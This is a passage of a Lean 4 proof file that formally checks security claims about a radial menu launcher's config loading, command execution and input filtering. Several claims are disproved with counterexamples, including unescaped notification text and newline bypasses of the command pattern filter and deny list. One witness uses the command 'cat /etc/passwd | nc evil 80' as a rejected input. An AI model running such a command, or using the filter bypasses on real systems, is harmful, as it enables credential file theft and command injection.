    (∀ rs : List RItem, ∀ d c, heightItems (parseLevel rs d c).1 ≤ maxYamlDepth - d) := by
  apply ritemRecPair
  · intro lbl cmd desc icon hk pri ntf subKey submenu ih d it hparse hvalid
    simp only [parseMenuItem] at hparse
    split at hparse
    · cases hparse
      exact Bool.noConfusion hvalid
    · rename_i hdepth
      split at hparse
      · cases hparse
        exact Bool.noConfusion hvalid
      · cases hparse
      · split at hparse
        · cases hparse
        · split at hparse
          · split at hparse
            · cases hparse
            · rename_i subs heq
              have hsub := ih (d + 1) 0
              rw [heq] at hsub
              have hsub2 : heightItems subs ≤ maxYamlDepth - (d + 1) := by
                simpa using hsub
              cases hparse
              simp only [heightItem]
              simp only [maxYamlDepth] at hdepth hsub2 ⊢
              omega
          · split at hparse
            · cases hparse
              exact Bool.noConfusion hvalid
            · cases hparse
              simp only [heightItem, heightItems]
              simp only [maxYamlDepth] at hdepth ⊢
              omega
  · intro d c
    simp [parseLevel, heightItems]
  · intro r rs ihr ihrs d c
    simp only [parseLevel]
    split
    · simp [heightItems]
    · split
      · simp [heightItems]
      · rename_i it hok
        split
        · rename_i hvalid
          simp only [heightItems]
          have h1 := ihr d it hok hvalid
          have h2 := ihrs d (c + 1)
          omega
        · exact ihrs d c

theorem parse_levels_pair :
    (∀ r : RItem, ∀ d it, parseMenuItem r d = .ok it →
        levelsWithinItem maxMenuItems it = true) ∧
    (∀ rs : List RItem, ∀ d c, (parseLevel rs d c).1.length ≤ maxMenuItems - c ∧
        levelsWithinItems maxMenuItems (parseLevel rs d c).1 = true) := by
  apply ritemRecPair
  · intro lbl cmd desc icon hk pri ntf subKey submenu ih d it hparse
    simp only [parseMenuItem] at hparse
    split at hparse
    · cases hparse
      simp [invalidItem, levelsWithinItem, levelsWithinItems, maxMenuItems]
    · split at hparse
      · cases hparse
        simp [invalidItem, levelsWithinItem, levelsWithinItems, maxMenuItems]
      · cases hparse
      · split at hparse
        · cases hparse
        · split at hparse
          · split at hparse
            · cases hparse
            · rename_i subs heq
              have hsub := ih (d + 1) 0
              rw [heq] at hsub
              obtain ⟨hlen, hlev⟩ := hsub
              cases hparse
              simp only [levelsWithinItem]
              simp only at hlen hlev
              simp only [Bool.and_eq_true]
              refine ⟨?_, hlev⟩
              simp only [maxMenuItems] at hlen ⊢
              simp only [decide_eq_true_eq]
              omega
          · split at hparse
            · cases hparse
              simp [invalidItem, levelsWithinItem, levelsWithinItems, maxMenuItems]
            · cases hparse
              simp [levelsWithinItem, levelsWithinItems, maxMenuItems]
  · intro d c
    simp [parseLevel, levelsWithinItems, maxMenuItems]
  · intro r rs ihr ihrs d c
    simp only [parseLevel]
    split
    · rename_i hc
      exact ⟨by simp, by simp [levelsWithinItems]⟩
    · rename_i hc
      split
      · exact ⟨by simp, by simp [levelsWithinItems]⟩
      · rename_i it hok
        split
        · rename_i hvalid
          obtain ⟨hlen, hlev⟩ := ihrs d (c + 1)
          constructor
          · simp only [List.length_cons]
            simp only [maxMenuItems] at hc hlen ⊢
            omega
          · simp only [levelsWithinItems]
            simp only [Bool.and_eq_true]
            exact ⟨ihr d it hok, hlev⟩
        · exact ihrs d c

theorem parse_valid_pair :
    (∀ r : RItem, ∀ d it, parseMenuItem r d = .ok it → it.isValid = true →
        allNodesItem MItem.isValid it = true) ∧
    (∀ rs : List RItem, ∀ d c,
        allNodesItems MItem.isValid (parseLevel rs d c).1 = true) := by
  apply ritemRecPair
  · intro lbl cmd desc icon hk pri ntf subKey submenu ih d it hparse hvalid
    simp only [parseMenuItem] at hparse
    split at hparse
    · cases hparse
      exact Bool.noConfusion hvalid
    · split at hparse
      · cases hparse
        exact Bool.noConfusion hvalid
      · cases hparse
      · split at hparse
        · cases hparse
        · split at hparse
          · split at hparse
            · cases hparse
            · rename_i subs heq
              have hsub := ih (d + 1) 0
              rw [heq] at hsub
              simp only at hsub
              cases hparse
              simp only [allNodesItem]
              simp only [Bool.and_eq_true]
              exact ⟨hvalid, hsub⟩
          · split at hparse
            · cases hparse
              exact Bool.noConfusion hvalid
            · cases hparse
              simp only [allNodesItem, allNodesItems]
              simp only [Bool.and_eq_true]
              exact ⟨hvalid, trivial⟩
  · intro d c
    simp [parseLevel, allNodesItems]
  · intro r rs ihr ihrs d c
    simp only [parseLevel]
    split
    · simp [allNodesItems]
    · split
      · simp [allNodesItems]
      · rename_i it hok
        split
        · rename_i hvalid
          simp only [allNodesItems]
          simp only [Bool.and_eq_true]
          exact ⟨ihr d it hok hvalid, ihrs d (c + 1)⟩
        · exact ihrs d c

theorem readStrOr_of_ok (dflt : String) (v : Option (YVal String)) (h : okOptY v = true) :
    readStrOr dflt v = .ok (goodOrStr dflt v) := by
  match v with
  | none => rfl
  | some (.good s) => rfl
  | some .bad => exact absurd h (by simp [okOptY])

theorem readOptStr_of_ok (v : Option (YVal String)) (h : okOptY v = true) :
    readOptStr v = .ok (goodOptStr v) := by
  match v with
  | none => rfl
  | some (.good s) => rfl
  | some .bad => exact absurd h (by simp [okOptY])

theorem readPriority_of_ok (v : Option (YVal Int)) (h : okOptY v = true) :
    readPriority v = .ok (goodPriority v) := by
  match v with
  | none => rfl
  | some (.good n) => rfl
  | some .bad => exact absurd h (by simp [okOptY])

theorem readNotify_of_ok (v : Option (YVal Bool)) (h : okOptY v = true) :
    readNotify v = .ok (goodNotify v) := by
  match v with
  | none => rfl
  | some (.good b) => rfl
  | some .bad => exact absurd h (by simp [okOptY])

theorem readFields_of_ok (cmd desc icon hk : Option (YVal String))
    (pri : Option (YVal Int)) (ntf : Option (YVal Bool))
    (h1 : okOptY cmd = true) (h2 : okOptY desc = true) (h3 : okOptY icon = true)
    (h4 : okOptY hk = true) (h5 : okOptY pri = true) (h6 : okOptY ntf = true) :
    readFields cmd desc icon hk pri ntf =
      .ok (goodOrStr "" cmd, goodOrStr "" desc, goodOptStr icon, goodOptStr hk,
           goodPriority pri, goodNotify ntf) := by
  unfold readFields
  rw [readStrOr_of_ok _ _ h1, readStrOr_of_ok _ _ h2, readOptStr_of_ok _ h3,
      readOptStr_of_ok _ h4, readPriority_of_ok _ h5, readNotify_of_ok _ h6]
  rfl

theorem convertItem_valid (r : RItem) (h : wfRItem r = true) :
    (convertItem r).isValid = true := by
  match r with
  | .mk lbl cmd desc icon hk pri ntf subKey submenu =>
    simp only [wfRItem, Bool.and_eq_true] at h
    obtain ⟨⟨⟨⟨⟨⟨⟨hlbl, hcmd⟩, hdesc⟩, hicon⟩, hhk⟩, hpri⟩, hntf⟩, hlast⟩ := h
    match lbl with
    | none => exact Bool.noConfusion hlbl
    | some .bad => exact Bool.noConfusion hlbl
    | some (.good l) =>
      simp only [convertItem, MItem.isValid, MItem.label, goodOrStr]
      simpa using hlbl

theorem parse_wf_pair :
    (∀ r : RItem, ∀ d, wfRItem r = true → d + rHeightItem r ≤ maxYamlDepth →
        parseMenuItem r d = .ok (convertItem r)) ∧
    (∀ rs : List RItem, ∀ d c, wfRItems rs = true →
        d + rHeightItems rs ≤ maxYamlDepth → c + rs.length ≤ maxMenuItems →
        parseLevel rs d c = (convertItems rs, false)) := by
  apply ritemRecPair
  · intro lbl cmd desc icon hk pri ntf subKey submenu ih d hwf hh
    simp only [wfRItem, Bool.and_eq_true] at hwf
    obtain ⟨⟨⟨⟨⟨⟨⟨hlbl, hcmd⟩, hdesc⟩, hicon⟩, hhk⟩, hpri⟩, hntf⟩, hlast⟩ := hwf
    have hdep : ¬ (maxYamlDepth ≤ d) := by
      simp only [rHeightItem] at hh
      omega
    simp only [parseMenuItem]
    rw [if_neg hdep]
    match lbl with
    | none => exact Bool.noConfusion hlbl
    | some .bad => exact Bool.noConfusion hlbl
    | some (.good l) =>
      rw [readFields_of_ok cmd desc icon hk pri ntf hcmd hdesc hicon hhk hpri hntf]
      match subKey with
      | true =>
        simp only [Bool.and_eq_true, decide_eq_true_eq] at hlast
        obtain ⟨hlen, hwfs⟩ := hlast
        have hrec := ih (d + 1) 0 hwfs (by simp only [rHeightItem] at hh; omega)
          (by omega)
        rw [hrec]
        simp [convertItem, goodOrStr]
      | false =>
        match cmd with
        | none => exact Bool.noConfusion hlast
        | some .bad => exact Bool.noConfusion hlast
        | some (.good c) =>
          have hcne : c.isEmpty = false := by
            simpa using hlast
          simp only [goodOrStr, hcne]
          simp [convertItem, goodOrStr]
  · intro d c _ _ _
    rfl
  · intro r rs ihr ihrs d c hwf hh hcnt
    simp only [wfRItems, Bool.and_eq_true] at hwf
    obtain ⟨hwr, hwrs⟩ := hwf
    simp only [rHeightItems] at hh
    have hcap : ¬ (maxMenuItems ≤ c) := by
      simp only [List.length_cons] at hcnt
      omega
    simp only [parseLevel]
    rw [if_neg hcap]
    rw [ihr d hwr (by omega)]
    have hval := convertItem_valid r hwr
    simp only [hval]
    have hrest := ihrs d (c + 1) hwrs (by omega)
      (by simp only [List.length_cons] at hcnt; omega)
    rw [hrest]
    simp [convertItems]

theorem mitemRecPair (P : MItem → Prop) (Q : List MItem → Prop)
    (hmk : ∀ l d c submenu icon hk pri ntf,
      Q submenu → P (MItem.mk l d c submenu icon hk pri ntf))
    (hnil : Q [])
    (hcons : ∀ i is, P i → Q is → Q (i :: is)) :
    (∀ i, P i) ∧ (∀ is, Q is) := by
  have h1 : ∀ i, P i := by
    intro i
    induction i using MItem.rec (motive_2 := Q) with
    | mk l d c submenu icon hk pri ntf ih => exact hmk _ _ _ _ _ _ _ _ ih
    | nil => exact hnil
    | cons i is ihi ihis => exact hcons i is ihi ihis
  refine ⟨h1, ?_⟩
  intro is
  induction is with
  | nil => exact hnil
  | cons i is ih => exact hcons i is (h1 i) ih

theorem leaf_cmd_validate_pair (cmd : String) (hbad : hasDangerousPatterns cmd = true) :
    (∀ it : MItem, itemHasLeafCmd cmd it = true → validateItemCommands it = false) ∧
    (∀ its : List MItem, itemsHaveLeafCmd cmd its = true →
        validateItemsCommands its = false) := by
  have hne : cmd.isEmpty = false := by
    cases hemp : cmd.isEmpty
    · rfl
    · exfalso
      have hcc : cmd = "" := (String.isEmpty_iff cmd).1 hemp
      subst hcc
      exact absurd hbad (by decide)
  apply mitemRecPair
  · intro l d c subs icon hk pri ntf ihsubs hleaf
    simp only [itemHasLeafCmd] at hleaf
    cases hsubs : subs.isEmpty with
    | false =>
      rw [hsubs] at hleaf
      simp only [validateItemCommands, hsubs]
      exact ihsubs hleaf
    | true =>
      rw [hsubs] at hleaf
      have hc : c = cmd := by simpa using hleaf
      subst hc
      simp only [validateItemCommands, hsubs, hne, hbad]
      simp
  · intro h
    simp [itemsHaveLeafCmd] at h
  · intro i is ihi ihis h
    simp only [itemsHaveLeafCmd, Bool.or_eq_true] at h
    simp only [validateItemsCommands]
    cases h with
    | inl h1 => simp [ihi h1]
    | inr h2 => simp [ihis h2]

/-- C1: the claim says the Dispatcher passes program path and argv directly
to process creation and never calls a generic shell-command-line execution
primitive.  The code contradicts it: `RadialMenu::execute_command` never
issues a direct-argv `execve` call in either mode; it hands the raw command
string (and, at the concrete failing input, `"ls"`) to
`Glib::spawn_command_line_sync` / `Glib::spawn_command_line_async`, which
parse the whole string under shell quoting rules.  `SafeExecutor` (the
fork+execve path) is never invoked. -/
theorem c1_execute_command_spawns_command_lines :
    (∀ (it : MItem) (res : SyncOutcome),
        (executeCommandCalls it res).all (fun call => !(call.isDirectExec)) = true) ∧
    executeCommandCalls (MItem.mk "A" "" "ls" [] none none 0 false) ⟨0, "", ""⟩
      = [OsCall.spawnAsync "ls"] := by
  constructor
  · intro it res
    unfold executeCommandCalls
    cases hcmd : it.command.isEmpty with
    | true => rfl
    | false =>
      cases hn : it.notify with
      | true =>
        cases hout : (res.exitCode == 0) && !(res.stdoutText.isEmpty) with
        | true => rfl
        | false => rfl
      | false => rfl
  · rfl

/-- C2: the claim says every command output and item label forwarded to the
notification surface is escaped by the notification escaping rules
(backslash, quotes, dollar, backtick, control characters).  The code
contradicts it: `execute_command` builds the notify-send command line by raw
concatenation; at label `"A"` and captured stdout `"x$y"` the dollar sign is
embedded unescaped, and the built line differs from the one
`ShellEscaper::escape_notify_arg` (which is never called) would produce. -/
theorem c2_notify_arguments_not_escaped :
    executeCommandCalls (MItem.mk "A" "" "c" [] none none 0 true) ⟨0, "x$y", ""⟩
      = [OsCall.spawnSync "c", OsCall.spawnAsync (notifySendLine "A" "x$y")] ∧
    notifySendLine "A" "x$y" = "notify-send 'A' 'x$y'" ∧
    escapeNotifyArg "x$y" = "'x\\$y'" ∧
    notifySendLine "A" "x$y" ≠
      "notify-send " ++ escapeNotifyArg "A" ++ " " ++ escapeNotifyArg "x$y" := by
  refine ⟨rfl, rfl, rfl, ?_⟩
  decide

/-- C3 counterexample: a command containing a literal newline character
(claimed to yield a blacklisted-pattern verdict and to fail the load) passes
`has_dangerous_patterns`, passes `is_blacklisted`, and a configuration with
that command in a leaf validates successfully: the pattern table holds the
two-character escape sequences backslash-n / backslash-r, not control
characters. -/
theorem c3_counterexample_literal_newline_allowed :
    '\n' ∈ "echo a\nb".data ∧
    hasDangerousPatterns "echo a\nb" = false ∧
    isBlacklisted "echo a\nb" = false ∧
    RConfig.validate ⟨120, 40, [MItem.mk "a" "" "echo a\nb" [] none none 0 false]⟩
      = true := by
  refine ⟨by decide, by decide, by decide, by decide⟩

/-- C3 (amended): for every command containing one of the dangerous
substrings actually tabled — pipe, redirections, ampersand, semicolon,
dollar-paren, backtick, dollar-brace, logical and/or, and the two-character
sequences backslash-n / backslash-r (literal newline and carriage-return
characters are NOT detected) — `has_dangerous_patterns` is true, and any
configuration holding such a command in a reachable leaf fails
`RadialConfig::validate` as a whole. -/
theorem c3_metacharacters_rejected (cmd : String) (cfg : RConfig)
    (hp : ∃ p ∈ dangerousPatterns, p.data <:+: cmd.data)
    (hleaf : itemsHaveLeafCmd cmd cfg.items = true) :
    hasDangerousPatterns cmd = true ∧ cfg.validate = false := by
  have hbad : hasDangerousPatterns cmd = true := by
    unfold hasDangerousPatterns
    rw [List.any_eq_true]
    obtain ⟨p, hpm, hpi⟩ := hp
    exact ⟨p, hpm, (containsSub_iff cmd.data p.data).2 hpi⟩
  refine ⟨hbad, ?_⟩
  have hcmds := (leaf_cmd_validate_pair cmd hbad).2 cfg.items hleaf
  simp [RConfig.validate, hcmds]

theorem c3_metacharacters_rejected_witness :
    (∃ p ∈ dangerousPatterns, p.data <:+: "cat /etc/passwd | nc evil 80".data) ∧
    itemsHaveLeafCmd "cat /etc/passwd | nc evil 80"
      [MItem.mk "a" "" "cat /etc/passwd | nc evil 80" [] none none 0 false] = true ∧
    hasDangerousPatterns "cat /etc/passwd | nc evil 80" = true ∧
    RConfig.validate ⟨120, 40,
      [MItem.mk "a" "" "cat /etc/passwd | nc evil 80" [] none none 0 false]⟩ = false := by
  refine ⟨⟨"|", by decide, by decide⟩, by decide, ?_⟩
  exact c3_metacharacters_rejected _ ⟨120, 40, _⟩ ⟨"|", by decide, by decide⟩ (by decide)

/-- C4 counterexample: for a command whose first whitespace-delimited token
is `rm` (in the deny-set) but where the whitespace is a newline,
`is_blacklisted` returns false: `extract_command_name` splits only at space
and tab, so the newline stays inside the extracted token. -/
theorem c4_counterexample_newline_in_first_token :
    specFirstTokenWs "rm\nx y" = "rm" ∧
    "rm" ∈ blacklistedCommands ∧
    isBlacklisted "rm\nx y" = false := by
  refine ⟨by decide, by decide, by decide⟩

/-- C4 (amended): for every command string whose first space-or-tab
delimited token (after trimming surrounding whitespace), stripped of any
directory prefix, matches the fixed case-sensitive deny-set,
`is_blacklisted` returns true — including commands with no arguments at
all.  (Newline and carriage return do not delimit the first token.) -/
theorem c4_name_deny_set (command : String)
    (h : specFirstTokenSpaceTab command ∈ blacklistedCommands) :
    isBlacklisted command = true := by
  unfold isBlacklisted
  rw [extractCommandName_eq_spec]
  exact List.elem_iff.2 h

theorem c4_name_deny_set_witness :
    specFirstTokenSpaceTab "sudo" ∈ blacklistedCommands ∧
    isBlacklisted "sudo" = true :=
  ⟨by decide, c4_name_deny_set "sudo" (by decide)⟩

theorem fromYamlModel_ok_doc (n : Nat) (hn : ¬ maxConfigFileSize < n)
    (g1 g2 g3 g4 : Option (YVal Int)) (its : Option (List RItem)) :
    fromYamlModel true true false n (some ⟨g1, g2, g3, g4, its⟩) =
      match readGeomOr 120 50 500 g1 with
      | .error _ => ⟨120, 40, []⟩
      | .ok r =>
        match readCenter g2 g3 with
        | .error _ => ⟨r, 40, []⟩
        | .ok c =>
          match readGeomOr 0 0 60000 g4 with
          | .error _ => ⟨r, c, []⟩
          | .ok _ =>
            match its with
            | none => ⟨r, c, []⟩
            | some raws => ⟨r, c, itemsPhase raws⟩ := by
  simp only [fromYamlModel]
  rw [if_neg (by simp), if_neg (by simp), if_neg (by simp), if_neg hn]

/-- C6: when the built tree's total node count across all levels exceeds
`MAX_TOTAL_ITEMS`, the items phase discards the entire tree (empty items),
even though no individual level of the built tree can ever exceed
`MAX_MENU_ITEMS` (second conjunct: the per-level bound always holds, so the
ceiling is genuinely global and checked after building), and the whole
`from_yaml` load yields an empty items list whatever the scalar keys are. -/
theorem c6_total_node_ceiling (raws : List RItem)
    (hok : (parseLevel raws 0 0).2 = false)
    (hcount : maxTotalItems < countItems (parseLevel raws 0 0).1) :
    itemsPhase raws = [] ∧
    levelsWithinItems maxMenuItems (parseLevel raws 0 0).1 = true ∧
    (∀ g1 g2 g3 g4 : Option (YVal Int),
      (fromYamlModel true true false 0 (some ⟨g1, g2, g3, g4, some raws⟩)).items = []) := by
  have hphase : itemsPhase raws = [] := by
    simp only [itemsPhase]
    rw [hok]
    simp only []
    rw [if_pos hcount]
  refine ⟨hphase, ((parse_levels_pair).2 raws 0 0).2, ?_⟩
  intro g1 g2 g3 g4
  rw [fromYamlModel_ok_doc 0 (by decide)]
  cases readGeomOr 120 50 500 g1 with
  | error e => rfl
  | ok r =>
    cases readCenter g2 g3 with
    | error e => rfl
    | ok c =>
      cases readGeomOr 0 0 60000 g4 with
      | error e => rfl
      | ok a => simpa using hphase

theorem c6_total_node_ceiling_witness :
    (parseLevel raws201x 0 0).2 = false ∧
    countItems (parseLevel raws201x 0 0).1 = maxTotalItems + 1 ∧
    itemsPhase raws201x = [] ∧
    levelsWithinItems maxMenuItems (parseLevel raws201x 0 0).1 = true := by
  refine ⟨rfl, by decide, ?_, ?_⟩
  · exact (c6_total_node_ceiling raws201x rfl (by decide)).1
  · exact (c6_total_node_ceiling raws201x rfl (by decide)).2.1

/-- C7: (1) every tree produced by the parser has height at most
`MAX_YAML_DEPTH`, whatever the document — nodes nested beyond the limit are
absent; (2) at depth at or beyond the limit `parse_menu_item` returns the
invalid (dropped) item rather than failing the parse; (3) any well-formed
raw subtree whose chains stay within the limit parses intact, preserved
exactly as its faithful conversion — so siblings of an overflowing branch
are unaffected. -/
theorem c7_depth_limit_truncates :
    (∀ (raws : List RItem) (d c : Nat),
        heightItems (parseLevel raws d c).1 ≤ maxYamlDepth - d) ∧
    (∀ (r : RItem) (d : Nat), maxYamlDepth ≤ d → parseMenuItem r d = .ok invalidItem) ∧
    (∀ (r : RItem) (d : Nat), wfRItem r = true → d + rHeightItem r ≤ maxYamlDepth →
        parseMenuItem r d = .ok (convertItem r)) := by
  refine ⟨fun raws d c => parse_height_pair.2 raws d c, ?_, fun r d => parse_wf_pair.1 r d⟩
  intro r d hd
  match r with
  | .mk lbl cmd desc icon hk pri ntf subKey submenu =>
    simp only [parseMenuItem]
    rw [if_pos hd]

theorem c7_depth_limit_truncates_witness :
    heightItems (parseLevel [deepChainRaw 20, mkBranchRaw "S" [mkLeafRaw "C" "c"]] 0 0).1
      ≤ maxYamlDepth - 0 ∧
    maxYamlDepth ≤ 10 ∧
    parseMenuItem (mkLeafRaw "deep" "x") 10 = .ok invalidItem ∧
    wfRItem (mkBranchRaw "S" [mkLeafRaw "C" "c"]) = true ∧
    0 + rHeightItem (mkBranchRaw "S" [mkLeafRaw "C" "c"]) ≤ maxYamlDepth ∧
    parseMenuItem (mkBranchRaw "S" [mkLeafRaw "C" "c"]) 0
      = .ok (convertItem (mkBranchRaw "S" [mkLeafRaw "C" "c"])) := by
  refine ⟨c7_depth_limit_truncates.1 _ 0 0, by decide, c7_depth_limit_truncates.2.1 _ 10 (by decide), by decide, by decide, ?_⟩
  exact c7_depth_limit_truncates.2.2 _ 0 (by decide) (by decide)

theorem parseCliItem_submenu (s : String) : (parseCliItem s).submenu = [] := rfl

theorem allNodesItem_no_submenu (it : MItem) (h1 : it.submenu = [])
    (h2 : it.isValid = true) : allNodesItem MItem.isValid it = true := by
  match it with
  | .mk l d c subs icon hk pri ntf =>
    simp only [MItem.submenu] at h1
    subst h1
    simp only [allNodesItem, allNodesItems]
    simp [h2]

theorem cliCollect_allValid (l : List (List Char)) :
    allNodesItems MItem.isValid (cliCollect l) = true := by
  induction l with
  | nil => rfl
  | cons s rest ih =>
    simp only [cliCollect]
    cases htm : (trimSpaceTab s).isEmpty with
    | true => exact ih
    | false =>
      cases hval : (parseCliItem (String.mk (trimSpaceTab s))).isValid with
      | true =>
        simp only [allNodesItems, Bool.and_eq_true]
        exact ⟨allNodesItem_no_submenu _ (parseCliItem_submenu _) hval, ih⟩
      | false => exact ih

theorem itemsPhase_allValid (raws : List RItem) :
    allNodesItems MItem.isValid (itemsPhase raws) = true := by
  simp only [itemsPhase]
  split
  · exact parse_valid_pair.2 raws 0 0
  · split
    · rfl
    · exact parse_valid_pair.2 raws 0 0

theorem itemsPhase_of_overflow (raws : List RItem)
    (hok : (parseLevel raws 0 0).2 = false)
    (hcount : maxTotalItems < countItems (parseLevel raws 0 0).1) :
    itemsPhase raws = [] := by
  simp only [itemsPhase]
  rw [hok]
  simp only []
  rw [if_pos hcount]

theorem itemsPhase_of_threw (raws : List RItem)
    (h : (parseLevel raws 0 0).2 = true) :
    itemsPhase raws = (parseLevel raws 0 0).1 := by
  simp only [itemsPhase]
  rw [h]

theorem fromYamlModel_items_cases (g1 g2 g3 g4 : Option (YVal Int))
    (its : Option (List RItem)) :
    (fromYamlModel true true false 0 (some ⟨g1, g2, g3, g4, its⟩)).items = [] ∨
    ∃ raws, its = some raws ∧
      (fromYamlModel true true false 0 (some ⟨g1, g2, g3, g4, its⟩)).items
        = itemsPhase raws := by
  rw [fromYamlModel_ok_doc 0 (by decide)]
  cases readGeomOr 120 50 500 g1 with
  | error e => exact Or.inl rfl
  | ok r =>
    cases readCenter g2 g3 with
    | error e => exact Or.inl rfl
    | ok c =>
      cases readGeomOr 0 0 60000 g4 with
      | error e => exact Or.inl rfl
      | ok a =>
        cases its with
        | none => exact Or.inl rfl
        | some raws => exact Or.inr ⟨raws, rfl, rfl⟩

/-- C8 counterexample: the CLI configuration string `"a"` loads successfully
(`validate` returns true) yet its single reachable node has an empty command
and no children — the claimed "command xor children" invariant does not
hold on accepted trees. -/
theorem c8_counterexample_cli_item_without_command :
    (fromCommandLine "a").items = [MItem.mk "a" "a" "" [] none none 0 false] ∧
    (fromCommandLine "a").validate = true ∧
    (MItem.mk "a" "a" "" [] none none 0 false).command = "" ∧
    (MItem.mk "a" "a" "" [] none none 0 false).submenu = [] :=
  ⟨rfl, rfl, rfl, rfl⟩

/-- C8 (amended): what the loaders do guarantee is the label half of the
invariant: every node reachable in a tree built by either loader (CLI
delimiter string or YAML document) has a non-empty label (`is_valid`).
Nodes with neither command nor children, or with both, can be accepted. -/
theorem c8_reachable_labels_nonempty :
    (∀ s : String, allNodesItems MItem.isValid (fromCommandLine s).items = true) ∧
    (∀ (pa fe fs : Bool) (n : Nat) (doc : Option RDoc),
        allNodesItems MItem.isValid (fromYamlModel pa fe fs n doc).items = true) := by
  constructor
  · intro s
    exact cliCollect_allValid (getlineSplit s.data)
  · intro pa fe fs n doc
    cases pa with
    | false => rfl
    | true =>
      cases fs with
      | true => rfl
      | false =>
        cases fe with
        | false => rfl
        | true =>
          by_cases hn : maxConfigFileSize < n
          · simp only [fromYamlModel]
            rw [if_neg (by simp), if_neg (by simp), if_neg (by simp), if_pos hn]
            rfl
          · cases doc with
            | none =>
              simp only [fromYamlModel]
              rw [if_neg (by simp), if_neg (by simp), if_neg (by simp), if_neg hn]
              rfl
            | some d =>
              match d with
              | .mk g1 g2 g3 g4 its =>
                rw [fromYamlModel_ok_doc n hn g1 g2 g3 g4 its]
                cases readGeomOr 120 50 500 g1 with
                | error e => rfl
                | ok r =>
                  cases readCenter g2 g3 with
                  | error e => rfl
                  | ok c =>
                    cases readGeomOr 0 0 60000 g4 with
                    | error e => rfl
                    | ok a =>
                      cases its with
                      | none => rfl
                      | some raws => exact itemsPhase_allValid raws

/-- C9: the concrete two-level configuration `root: [A, B(children:[C,D])]`
parses to exactly that tree; pushing B's submenu onto the navigation stack
exposes exactly `[C, D]` at the top, popping restores exactly `[A, B]`, and
in general a push followed by a pop restores the previous stack. -/
theorem c9_navigation_round_trip :
    (fromYamlModel true true false 10 (some rawTwoLevel)).items = [sampleA, sampleB] ∧
    navTop (pushMenu (navInit [sampleA, sampleB]) sampleB.submenu) = [sampleC, sampleD] ∧
    navTop (popMenu (pushMenu (navInit [sampleA, sampleB]) sampleB.submenu))
      = [sampleA, sampleB] ∧
    (∀ (top : List MItem) (rest : List (List MItem)) (subs : List MItem),
        popMenu (pushMenu (top :: rest) subs) = top :: rest) := by
  refine ⟨rfl, rfl, rfl, ?_⟩
  intro top rest subs
  rfl

/-- C10 counterexample: a document whose second item has a malformed label
(the `as<string>` conversion throws mid-loop) returns a configuration whose
items list is the partially built prefix, not empty — a partially built
menu tree escapes a failed load, contradicting the claim. -/
theorem c10_counterexample_partial_items_escape :
    (fromYamlModel true true false 10
        (some ⟨none, none, none, none, some [mkLeafRaw "a" "x", badLabelRaw]⟩)).items
      = [MItem.mk "a" "" "x" [] none none 0 false] ∧
    (fromYamlModel true true false 10
        (some ⟨none, none, none, none, some [mkLeafRaw "a" "x", badLabelRaw]⟩)).items
      ≠ [] := by
  refine ⟨rfl, ?_⟩
  intro h
  exact List.noConfusion h

/-- C10 (amended): the load is total and returns an empty items list on
every failure detected before item parsing — disallowed path, filesystem
error, missing file, oversized file, unparsable document — and on
total-node-count overflow; but when a conversion exception escapes the
items loop, the returned items are the prefix parsed so far (possibly
empty only if an earlier scalar read also failed), not necessarily empty. -/
theorem c10_failure_paths_empty_items :
    (∀ (fe fs : Bool) (n : Nat) (doc : Option RDoc),
        (fromYamlModel false fe fs n doc).items = []) ∧
    (∀ (pa fe : Bool) (n : Nat) (doc : Option RDoc),
        (fromYamlModel pa fe true n doc).items = []) ∧
    (∀ (pa fs : Bool) (n : Nat) (doc : Option RDoc),
        (fromYamlModel pa false fs n doc).items = []) ∧
    (∀ (pa fe fs : Bool) (n : Nat) (doc : Option RDoc), maxConfigFileSize < n →
        (fromYamlModel pa fe fs n doc).items = []) ∧
    (∀ (pa fe fs : Bool) (n : Nat), (fromYamlModel pa fe fs n none).items = []) ∧
    (∀ (g1 g2 g3 g4 : Option (YVal Int)) (raws : List RItem),
        (parseLevel raws 0 0).2 = false →
        maxTotalItems < countItems (parseLevel raws 0 0).1 →
        (fromYamlModel true true false 0 (some ⟨g1, g2, g3, g4, some raws⟩)).items = []) ∧
    (∀ (g1 g2 g3 g4 : Option (YVal Int)) (raws : List RItem),
        (parseLevel raws 0 0).2 = true →
        (fromYamlModel true true false 0 (some ⟨g1, g2, g3, g4, some raws⟩)).items = []
        ∨ (fromYamlModel true true false 0
            (some ⟨g1, g2, g3, g4, some raws⟩)).items = (parseLevel raws 0 0).1) := by
  refine ⟨?_, ?_, ?_, ?_, ?_, ?_, ?_⟩
  · intro fe fs n doc
    rfl
  · intro pa fe n doc
    cases pa with
    | false => rfl
    | true => rfl
  · intro pa fs n doc
    cases pa with
    | false => rfl
    | true =>
      cases fs with
      | false => rfl
      | true => rfl
  · intro pa fe fs n doc hn
    cases pa with
    | false => rfl
    | true =>
      cases fs with
      | true => rfl
      | false =>
        cases fe with
        | false => rfl
        | true =>
          simp only [fromYamlModel]
          rw [if_neg (by simp), if_neg (by simp), if_neg (by simp), if_pos hn]
  · intro pa fe fs n
    cases pa with
    | false => rfl
    | true =>
      cases fs with
      | true => rfl
      | false =>
        cases fe with
        | false => rfl
        | true =>
          by_cases hn : maxConfigFileSize < n
          · simp only [fromYamlModel]
            rw [if_neg (by simp), if_neg (by simp), if_neg (by simp), if_pos hn]
          · simp only [fromYamlModel]
            rw [if_neg (by simp), if_neg (by simp), if_neg (by simp), if_neg hn]
  · intro g1 g2 g3 g4 raws hok hcount
    cases fromYamlModel_items_cases g1 g2 g3 g4 (some raws) with
    | inl h => exact h
    | inr h =>
      obtain ⟨raws2, heq, hitems⟩ := h
      cases heq
      rw [hitems]
      exact itemsPhase_of_overflow raws hok hcount
  · intro g1 g2 g3 g4 raws hthrew
    cases fromYamlModel_items_cases g1 g2 g3 g4 (some raws) with
    | inl h => exact Or.inl h
    | inr h =>
      obtain ⟨raws2, heq, hitems⟩ := h
      cases heq
      rw [hitems]
      exact Or.inr (itemsPhase_of_threw raws hthrew)

theorem c10_failure_paths_empty_items_witness :
    (fromYamlModel false true false 0 none).items = [] ∧
    maxConfigFileSize < 2000000 ∧
    (fromYamlModel true true false 2000000 none).items = [] ∧
    (parseLevel raws201x 0 0).2 = false ∧
    maxTotalItems < countItems (parseLevel raws201x 0 0).1 ∧
    (fromYamlModel true true false 0
      (some ⟨none, none, none, none, some raws201x⟩)).items = [] := by
  refine ⟨c10_failure_paths_empty_items.1 true false 0 none, by decide,
    c10_failure_paths_empty_items.2.2.2.1 true true false 2000000 none (by decide), rfl, by decide, ?_⟩
  exact c10_failure_paths_empty_items.2.2.2.2.2.1 none none none none raws201x rfl (by decide)

theorem splitCompsAux_no_slash (cs : List Char) :
